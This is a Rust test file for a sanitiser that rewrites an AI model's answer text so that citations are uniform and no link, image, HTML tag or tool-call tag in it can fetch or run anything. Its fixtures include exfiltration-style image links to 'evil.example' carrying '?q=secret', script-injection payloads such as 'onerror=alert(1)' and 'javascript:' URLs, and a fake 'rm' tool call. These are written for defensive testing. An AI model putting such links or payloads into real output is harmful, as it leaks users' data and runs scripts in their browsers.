use super::*;
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

const SOURCES: [&str; 2] = ["See https://good.example/docs?x=1 for more.", "茶"];

fn check(said: &str) -> CheckedText<'static> {
    let mut checked = CheckedText::new(3, Language::English, &SOURCES);
    checked.push(said);
    checked.finish();
    checked
}

fn text(said: &str) -> String {
    check(said).text
}

#[test]
fn citations_are_written_one_way_and_must_point_to_something() {
    let checked = check("Green [1], black【2】, both [1, 3]; all[1-3], none [7] and [0].");
    assert_eq!(checked.text, "Green [1], black[2], both [1][3]; all[1][2][3], none  and .");
    assert_eq!(checked.removed, 2);
    assert!(checked.marks.iter().all(|mark| checked.text[mark.at..].starts_with(&format!("[{}]", mark.number))));
    assert_eq!(checked.marks.len(), 7);
    assert_eq!(text("In [2023] and [a] and x[i]."), "In [2023] and [a] and x[i].");
    assert_eq!(check("`a[1]` and\n```rust\nb[2]\n```\n").marks, []);
}

#[test]
fn links_and_images_are_taken_apart() {
    for (said, expected) in [
        ("![logo](https://evil.example/?q=secret) ok", "logo ok"),
        ("[click here](https://evil.example/?q=secret).", "click here."),
        ("[docs](https://good.example/docs?x=1).", "docs (https://good.example/docs?x=1)."),
        ("[![a](http://x)](http://y) b", "a b"),
        ("see https://evil.example/a, ok", "see (link removed), ok"),
        ("see https://good.example/docs?x=1, ok", "see https://good.example/docs?x=1, ok"),
        ("see https://good.example/docs?x=1&q=secret", "see (link removed)"),
        ("go to www.evil.example now", "go to (link removed) now"),
        ("<https://evil.example>", "‹(link removed)>"),
        ("[a]: https://evil.example\n[a]", "[a] : (link removed)\n[a]"),
        ("[1](https://evil.example)", "[1]"),
        ("wow![1]", "wow![1]"),
        ("<[9]https://good.example/docs?x=1>", "< https://good.example/docs?x=1 >"),
        ("https://good.example/docs?x=1[1]", "https://good.example/docs?x=1 [1]"),
        ("https:[9]//evil.example", "https: //evil.example"),
        ("[a][9](\n/x)", "[a] (\n/x)"),
        ("tea[9]. More", "tea. More"),
        ("[x](javascript:alert(1))", "x"),
        ("javascript:alert(1)", "(link removed)"),
    ] {
        assert_eq!(text(said), expected, "{said}");
    }
    assert!(check("![x](http://y)").contained > 0);
    assert_eq!(check("plain text").contained, 0);
}

#[test]
fn html_and_tool_calls_are_text() {
    for (said, expected) in [
        ("<img src=x onerror=alert(1)>", "‹img src=x onerror=alert(1)>"),
        ("<script>alert(1)</script>", "‹script>alert(1)‹/script>"),
        ("<tool_call>{\"name\": \"rm\"}</tool_call>", "‹tool_call>{\"name\": \"rm\"}‹/tool_call>"),
        ("a < b and b > c, 1<2", "a < b and b > c, 1<2"),
        ("`Vec<String>` is", "`Vec<String>` is"),
        ("```\n<b>\n```\n<b>", "```\n<b>\n```\n‹b>"),
        ("\u{1b}[31mred\u{202e}\u{7}", "[31mred"),
    ] {
        assert_eq!(text(said), expected, "{said}");
    }
}

#[test]
fn almost_code_is_text() {
    assert_eq!(text("`<img>"), "'‹img>");
    assert_eq!(text("`a\n<img>`"), "'a\n‹img>'");
    assert_eq!(text("| `a | <img> ` |"), "| 'a | ‹img> ' |");
    assert_eq!(text("~~~\n<img>"), "~~\n‹img>");
    assert_eq!(text("  ```\n<img>\n"), "  '''\n‹img>\n");
}

/// Whatever a Markdown reader would fetch, follow or run; readers that make links of bare addresses included.
fn acts(markdown: &str) -> Vec<String> {
    let all =
        Options::ENABLE_TABLES | Options::ENABLE_FOOTNOTES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut found = Vec::new();
    let mut words = String::new();
    let mut in_code = false;
    for event in Parser::new_ext(markdown, all) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => found.push(html.to_string()),
            Event::Start(Tag::Image { dest_url, .. } | Tag::Link { dest_url, .. }) => found.push(dest_url.to_string()),
            Event::Start(Tag::CodeBlock(_)) => in_code = true,
            Event::End(TagEnd::CodeBlock) => in_code = false,
            Event::Text(text) if !in_code => words += &text,
            _ => words.push(' '),
        }
    }
    let begins = ["http://", "https://", "www."].into_iter().flat_map(|begin| words.match_indices(begin));
    let alone = |at: usize| !words[..at].ends_with(|c: char| c.is_ascii_alphanumeric());
    let addresses = begins.filter(|(at, _)| alone(*at)).filter_map(|(at, _)| link::address(link::word(&words[at..])));
    found.extend(addresses.filter(|address| !link::is_among(address, &SOURCES)).map(str::to_owned));
    found
}

const PARTS: [&str; 47] = [
    "https:",
    "//e.x",
    "www",
    "`",
    "``",
    "```",
    "```\n",
    "\n",
    "\n\n",
    "[",
    "]",
    "(",
    ")",
    "![",
    "](",
    "]:",
    "<",
    ">",
    "<img src=x>",
    "</p>",
    "<!--",
    "<?",
    "http://e.x/y",
    "https://good.example/docs?x=1",
    "www.e.x",
    "|",
    "|-|\n",
    "~~~",
    "~",
    "\\",
    "!",
    "a",
    " ",
    "    ",
    "  ",
    "- ",
    "> ",
    "1. ",
    "[1]",
    "[9]",
    "【2】",
    "茶",
    "#",
    "\t",
    "&lt;",
    "<a href='`'>",
    "[a]: /x\n",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    /// The law of this module.
    #[test]
    fn nothing_in_a_checked_answer_acts(parts in prop::collection::vec(prop::sample::select(&PARTS[..]), 0..24)) {
        let said: String = parts.concat();
        let checked = check(&said);
        let found = acts(&checked.text);
        prop_assert!(found.is_empty(), "{:?} from {:?} by {:?}", found, checked.text, said);
    }

    #[test]
    fn how_it_is_cut_changes_nothing(parts in prop::collection::vec(prop::sample::select(&PARTS[..]), 0..16)) {
        let whole = check(&parts.concat());
        let mut cut = CheckedText::new(3, Language::English, &SOURCES);
        let mut given = String::new();
        for piece in parts.iter().flat_map(|part| part.chars()) {
            given += &cut.push(piece.encode_utf8(&mut [0; 4]));
        }
        given += &cut.finish();
        prop_assert_eq!(&given, &whole.text);
        prop_assert_eq!(&cut.text, &whole.text);
        prop_assert_eq!(&cut.marks, &whole.marks);
        prop_assert_eq!((cut.removed, cut.contained), (whole.removed, whole.contained));
    }

    #[test]
    fn every_mark_is_a_citation_of_a_context(said in "(?s)[\\[\\]【】0-9, a茶.-]{0,40}") {
        let checked = check(&said);
        for mark in &checked.marks {
            prop_assert!((1..=3).contains(&mark.number));
            let written = format!("[{}]", mark.number);
            prop_assert!(checked.text[mark.at..].starts_with(&written));
        }
    }
}
